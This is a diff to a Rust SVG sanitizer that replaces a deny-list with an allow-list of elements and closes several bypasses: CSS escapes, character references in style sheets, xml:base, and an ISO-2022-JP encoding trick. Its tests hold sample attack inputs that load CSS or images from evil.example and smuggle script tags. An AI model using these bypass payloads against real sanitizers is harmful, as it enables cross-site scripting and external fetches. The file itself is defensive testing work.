@@ -2,19 +2,26 @@
 //!
 //! An SVG opened from the site runs its scripts with the site's origin (an
 //! `<img>` would not, but a reader can open the file itself). So every SVG
-//! is parsed as XML (quick-xml) and written again from an allow-list of
-//! what a drawing needs:
-//! - elements that run or embed other documents are dropped with their
-//!   content: `script`, `foreignObject`, `iframe`, `embed`, `object`,
-//!   `handler`, `listener`, `audio`, `video`, and animations that set a
-//!   link or an event handler;
+//! is parsed as XML (quick-xml) and written again, as UTF-8, from an
+//! allow-list of what a drawing needs:
+//! - only SVG's own drawing elements are kept ([`ELEMENTS`]); any other
+//!   (`script`, `foreignObject`, `iframe`, an XHTML `img` or `meta` in
+//!   another namespace…) is dropped with its content, and so are
+//!   animations that set a link or an event handler;
+//! - a name holding anything but ASCII letters, digits and `_ - . :` makes
+//!   the file unpublishable, and the XML declaration is written anew as
+//!   UTF-8: an `encoding="ISO-2022-JP"` declaration let `<\x1b(Bscript>`
+//!   read as a harmless name here and as `<script>` in a browser;
 //! - event-handler attributes (`on…`) are dropped, and so is any attribute
 //!   whose value holds `javascript:`;
 //! - `href`, `xlink:href` and `src` keep only references inside the file
 //!   (`#id`) and embedded raster images (`data:image/png…`): an external
 //!   reference is removed;
-//! - CSS (a `style` attribute or element) that imports or fetches from
-//!   outside the file is dropped;
+//! - CSS (a `style` attribute or element, or a presentation attribute's
+//!   `url(…)`) that imports or fetches from outside the file is dropped, as
+//!   is any CSS holding an escape (`@\69mport`) or, inside `<style>`, a
+//!   character reference or an element (a check piece by piece missed
+//!   `@imp&#111;rt`); `xml:base` is dropped;
 //! - the DOCTYPE (entity definitions: the billion-laughs bomb), processing
 //!   instructions (`<?xml-stylesheet?>`) and comments are dropped.
 //!
@@ -25,18 +32,83 @@ use quick_xml::Reader;
 use quick_xml::Writer;
 use quick_xml::events::{BytesStart, Event};
 
-/// Elements dropped with everything inside them.
-const DROPPED: &[&str] = &[
-    "script",
-    "foreignobject",
-    "iframe",
-    "embed",
-    "object",
-    "handler",
-    "listener",
-    "audio",
-    "video",
+/// The elements kept (lower-cased local names): SVG's shapes, text,
+/// structure, paint servers, filters and animation. Any other is dropped
+/// with everything inside it.
+const ELEMENTS: &[&str] = &[
+    "svg",
+    "g",
+    "defs",
+    "symbol",
+    "use",
+    "switch",
+    "view",
+    "title",
+    "desc",
+    "metadata",
+    "path",
+    "rect",
+    "circle",
+    "ellipse",
+    "line",
+    "polyline",
+    "polygon",
+    "text",
+    "tspan",
+    "textpath",
+    "image",
+    "a",
+    "style",
+    "lineargradient",
+    "radialgradient",
+    "stop",
+    "pattern",
+    "clippath",
+    "mask",
+    "marker",
+    "filter",
+    "feblend",
+    "fecolormatrix",
+    "fecomponenttransfer",
+    "fecomposite",
+    "feconvolvematrix",
+    "fediffuselighting",
+    "fedisplacementmap",
+    "fedistantlight",
+    "fedropshadow",
+    "feflood",
+    "fefunca",
+    "fefuncb",
+    "fefuncg",
+    "fefuncr",
+    "fegaussianblur",
+    "feimage",
+    "femerge",
+    "femergenode",
+    "femorphology",
+    "feoffset",
+    "fepointlight",
+    "fespecularlighting",
+    "fespotlight",
+    "fetile",
+    "feturbulence",
+    "set",
+    "animate",
+    "animatemotion",
+    "animatetransform",
+    "animatecolor",
+    "mpath",
 ];
+
+/// Whether a name is plain: ASCII letters, digits, `_ - . :`. XML allows
+/// more, but a drawing needs no more, and a name with control or escape
+/// bytes is how a file tells this parser and a browser different things.
+fn plain_name(name: &str) -> bool {
+    !name.is_empty()
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b':'))
+}
 
 /// Animation elements, dropped when they animate a link or a handler.
 const ANIMATIONS: &[&str] = &[
@@ -55,8 +127,9 @@ pub fn sanitize(svg: &[u8]) -> Result<Vec<u8>, String> {
     let mut writer = Writer::new(Vec::with_capacity(svg.len()));
     // Depth inside a dropped element (0: not in one).
     let mut dropping = 0usize;
-    // Inside a `<style>` element.
-    let mut in_style = false;
+    // Inside a `<style>` element: its content, held until its end shows
+    // whether the whole is safe.
+    let mut style: Option<Style> = None;
     let mut seen_root = false;
     // Elements open on the way out: the file must close them all.
     let mut open = 0usize;
@@ -81,6 +154,46 @@ pub fn sanitize(svg: &[u8]) -> Result<Vec<u8>, String> {
             }
             continue;
         }
+        if let Event::Start(start) | Event::Empty(start) = &event
+            && !plain_name(start.name().as_ref())
+        {
+            return Err(format!(
+                "an element name holds more than letters, digits and _ - . : ({:?})",
+                start.name().as_ref()
+            ));
+        }
+        if let Some(held) = style.as_mut() {
+            match event {
+                Event::Text(text) => {
+                    held.css.push_str(&text);
+                    held.events.push(Event::Text(text.into_owned()));
+                }
+                Event::CData(data) => {
+                    held.css.push_str(&data);
+                    held.events.push(Event::CData(data.into_owned()));
+                }
+                // An element or a character reference inside a style sheet:
+                // it is not plain CSS any more, and not published.
+                Event::Start(_) => {
+                    held.unsafe_ = true;
+                    dropping = 1;
+                }
+                Event::GeneralRef(_) | Event::Empty(_) => held.unsafe_ = true,
+                Event::End(end) => {
+                    let held = style.take().unwrap_or_default();
+                    if !held.unsafe_ && !unsafe_css(&held.css) {
+                        for event in held.events {
+                            write(&mut writer, event)?;
+                        }
+                    }
+                    open = open.saturating_sub(1);
+                    write(&mut writer, Event::End(end))?;
+                }
+                Event::Eof => return Err("the file ends inside a style sheet".to_string()),
+                _ => {}
+            }
+            continue;
+        }
         let kept = match event {
             Event::Start(start) => match element(&start) {
                 Element::Drop => {
@@ -90,7 +203,9 @@ pub fn sanitize(svg: &[u8]) -> Result<Vec<u8>, String> {
                 Element::Keep(clean) => {
                     seen_root = true;
                     open += 1;
-                    in_style = local(&start) == "style";
+                    if local(&start) == "style" {
+                        style = Some(Style::default());
+                    }
                     Some(Event::Start(clean))
                 }
             },
@@ -102,12 +217,9 @@ pub fn sanitize(svg: &[u8]) -> Result<Vec<u8>, String> {
                 }
             },
             Event::End(end) => {
-                in_style = false;
                 open = open.saturating_sub(1);
                 Some(Event::End(end))
             }
-            Event::Text(text) if in_style => (!unsafe_css(&text)).then_some(Event::Text(text)),
-            Event::CData(data) if in_style => (!unsafe_css(&data)).then_some(Event::CData(data)),
             Event::Text(text) => Some(Event::Text(text)),
             Event::CData(data) => Some(Event::CData(data)),
             Event::GeneralRef(reference) => {
@@ -118,7 +230,12 @@ pub fn sanitize(svg: &[u8]) -> Result<Vec<u8>, String> {
                     name.starts_with('#') || matches!(name, "amp" | "lt" | "gt" | "quot" | "apos");
                 known.then_some(Event::GeneralRef(reference))
             }
-            Event::Decl(decl) => Some(Event::Decl(decl)),
+            // Written anew: the output is UTF-8, whatever the input said.
+            Event::Decl(_) => Some(Event::Decl(quick_xml::events::BytesDecl::new(
+                "1.0",
+                Some("UTF-8"),
+                None,
+            ))),
             Event::Comment(_) | Event::PI(_) | Event::DocType(_) => None,
             Event::Eof if open > 0 => {
                 return Err(format!(
@@ -129,15 +246,27 @@ pub fn sanitize(svg: &[u8]) -> Result<Vec<u8>, String> {
             Event::Eof => break,
         };
         if let Some(event) = kept {
-            writer
-                .write_event(event)
-                .map_err(|err| format!("cannot write the SVG again: {err}"))?;
+            write(&mut writer, event)?;
         }
     }
     if !seen_root {
         return Err("no SVG element in the file".to_string());
     }
     Ok(writer.into_inner())
+}
+
+/// A `<style>` element's content, held until its end.
+#[derive(Default)]
+struct Style {
+    events: Vec<Event<'static>>,
+    css: String,
+    unsafe_: bool,
+}
+
+fn write(writer: &mut Writer<Vec<u8>>, event: Event<'_>) -> Result<(), String> {
+    writer
+        .write_event(event)
+        .map_err(|err| format!("cannot write the SVG again: {err}"))
 }
 
 enum Element<'a> {
@@ -153,7 +282,7 @@ fn local(start: &BytesStart<'_>) -> String {
 /// An element as published: dropped, or with its safe attributes only.
 fn element<'a>(start: &BytesStart<'a>) -> Element<'a> {
     let name = local(start);
-    if DROPPED.contains(&name.as_str()) {
+    if !ELEMENTS.contains(&name.as_str()) {
         return Element::Drop;
     }
     let mut clean = BytesStart::new(start.name().as_ref().to_string());
@@ -161,6 +290,9 @@ fn element<'a>(start: &BytesStart<'a>) -> Element<'a> {
         let Ok(attribute) = attribute else {
             return Element::Drop;
         };
+        if !plain_name(attribute.key.as_ref()) {
+            return Element::Drop;
+        }
         let key = attribute.key.local_name().as_ref().to_ascii_lowercase();
         // Unescaped, so checks see what the browser sees, and escaped again
         // on the way out (a single-quoted value may hold `"`). An entity
@@ -179,11 +311,20 @@ fn element<'a>(start: &BytesStart<'a>) -> Element<'a> {
                 return Element::Drop;
             }
         }
-        let safe = if key.starts_with("on") || compact(&lowered).contains("javascript:") {
+        let prefix = attribute
+            .key
+            .prefix()
+            .map(|p| p.as_ref().to_ascii_lowercase());
+        // Event handlers, `javascript:` anywhere, and `xml:base` (which
+        // would change where references lead) go.
+        let handler = key.starts_with("on") || compact(&lowered).contains("javascript:");
+        let base = prefix.as_deref() == Some("xml") && key != "space" && key != "lang";
+        let safe = if handler || base {
             false
         } else if key == "href" || key == "src" {
             internal_reference(&lowered)
-        } else if key == "style" {
+        } else if key == "style" || lowered.contains("url(") || value.contains('\\') {
+            // Style and presentation attributes (`fill="url(…)"`).
             !unsafe_css(&value)
         } else {
             true
@@ -214,6 +355,11 @@ fn internal_reference(value: &str) -> bool {
 
 /// CSS that imports, fetches from outside the file, or runs script.
 fn unsafe_css(css: &str) -> bool {
+    // An escape can spell anything (`@\\69mport`, `u\\72l(`); a drawing's
+    // CSS needs none.
+    if css.contains('\\') {
+        return true;
+    }
     let css = compact(&css.to_ascii_lowercase());
     if css.contains("@import")
         || css.contains("expression(")
@@ -239,7 +385,7 @@ mod tests {
 
     #[test]
     fn a_drawing_keeps_its_shapes_styles_and_internal_references() {
-        let svg = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" \
+        let svg = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" \
                    xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 10 10\">\
                    <defs><linearGradient id=\"g\"/></defs>\
                    <style>.a { fill: url(#g); }</style>\
@@ -269,6 +415,13 @@ mod tests {
             "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&b;</text></svg>",
             "<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"><svg:script>alert(1)</svg:script></svg:svg>",
             "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"data:image/svg+xml;base64,PHN2Zz4=\"/></svg>",
+            // A review's bypasses of the first version.
+            "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@imp&#111;rt \"https://evil.example/e.css\"; rect{fill:u&#114;l(https://evil.example/p)}</style></svg>",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@\\69mport \"https://evil.example/x.css\";</style><rect style=\"fill:u\\72l(https://evil.example/p)\"/></svg>",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\"><style><g></g>@import url(https://evil.example/y.css);</style></svg>",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:img srcset=\"https://evil.example/a.png 1x\"/><h:meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/></svg>",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect fill=\"url(https://evil.example/p)\" filter=\"url(#ok)\"/></svg>",
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" xml:base=\"https://evil.example/\"><use href=\"#x\"/></svg>",
         ];
         for payload in payloads {
             let out = clean(payload).to_ascii_lowercase();
@@ -298,10 +451,25 @@ mod tests {
             "",
             "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>",
             "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect/><g><text>truncated",
+            // ESC ( B: read as a name here, dropped by an ISO-2022-JP reader.
+            "<?xml version=\"1.0\" encoding=\"ISO-2022-JP\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><\u{1b}(Bscript>alert(1)</\u{1b}(Bscript></svg>",
         ] {
             assert!(sanitize(bad.as_bytes()).is_err(), "{bad:?}");
         }
         assert!(sanitize(b"\xff\xfe<svg/>").is_err());
+        // An odd attribute name drops its element; the declaration is UTF-8.
+        let out = String::from_utf8(
+            sanitize(
+                "<?xml version=\"1.0\" encoding=\"ISO-2022-JP\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><rect \u{1b}(Bonload=\"x()\"/></svg>"
+                    .as_bytes(),
+            )
+            .expect("sanitises"),
+        )
+        .expect("utf-8");
+        assert_eq!(
+            out,
+            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><svg xmlns=\"http://www.w3.org/2000/svg\"></svg>"
+        );
         let err = sanitize(b"<svg>\n<rect></svg>").unwrap_err();
         assert!(err.contains("at line 2, column"), "{err}");
     }
